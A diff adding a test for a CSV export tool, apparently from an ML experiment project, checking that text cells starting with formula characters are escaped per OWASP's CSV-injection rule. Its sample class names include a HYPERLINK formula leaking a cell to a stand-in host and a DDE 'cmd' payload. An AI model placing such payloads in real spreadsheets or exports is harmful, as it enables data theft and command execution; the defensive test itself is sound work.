@@ -118,6 +118,32 @@ def test_run_folders_export_without_sweep_columns_and_name_runs_missing_plugins(
     assert captured.out == f"{len(rows)} rows of 2 runs -> {out}\n"
 
 
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+"""Class names a dataset file may hold (CIFAR-10's ``label_names``), each a formula to a spreadsheet."""
+
+
+def test_text_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path, capsys):
+    """OWASP's CSV injection rule: a text cell that begins with = + - @ gets a leading '; a
+    negative value (here a probe gap of -10 pp) stays a number."""
+    run = write_run(tmp_path / "@run", config(0), accuracy=0.5, probe_gap=-0.1)
+    partitions = json.loads((run / "partitions.json").read_text())
+    (run / "partitions.json").write_text(json.dumps({**partitions, "class_names": FORMULAS}))
+    out = tmp_path / "runs.csv"
+    assert main(["export", str(run), "--out", str(out)]) == 0
+    assert capsys.readouterr().out == f"{len(read(out)[1])} rows of 1 runs -> {out}\n"
+    _, rows = read(out)
+    gaps = pick(rows, round=2, metric="misalignment.gaps.probe")
+    assert [r["class"] for r in gaps] == ["", *(f"'{name}" for name in FORMULAS)]
+    assert {r["run"] for r in rows} == {"'@run"} and {float(r["value"]) for r in gaps} == {-10.0}
+    assert not [r for r in rows for cell in r.values() if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    if importlib.util.find_spec("pandas") is not None:
+        import pandas as pd
+
+        table = pd.read_csv(out)
+        assert table["value"].dtype == float and table["round"].dtype == int
+        assert table.loc[table["metric"] == "misalignment.gaps.probe", "value"].eq(-10.0).all()
+
+
 @pytest.mark.parametrize("case, message", [
     ("no folder", "is not a folder: pass a sweep folder"),
     ("no out folder", "is not a folder; make it first"),
